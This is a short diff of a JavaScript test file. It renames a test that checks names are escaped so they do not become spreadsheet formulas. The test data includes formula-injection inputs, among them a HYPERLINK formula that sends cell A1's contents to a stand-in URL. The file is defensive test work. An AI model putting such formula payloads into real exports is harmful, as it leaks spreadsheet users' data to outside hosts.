@@ -44,7 +44,7 @@ test.each([
   ['\r=1+1', `"'\r=1+1"`],
   ['=HYPERLINK("http://x?"&A1,"Mug")', `"'=HYPERLINK(""http://x?""&A1,""Mug"")"`],
   ['＝1+1', "'＝1+1"],
-])('the name %j is no formula', (name, cell) => {
+])('the name %j does not become a formula', (name, cell) => {
   expect(nameIn(name)).toBe(cell);
 });
 
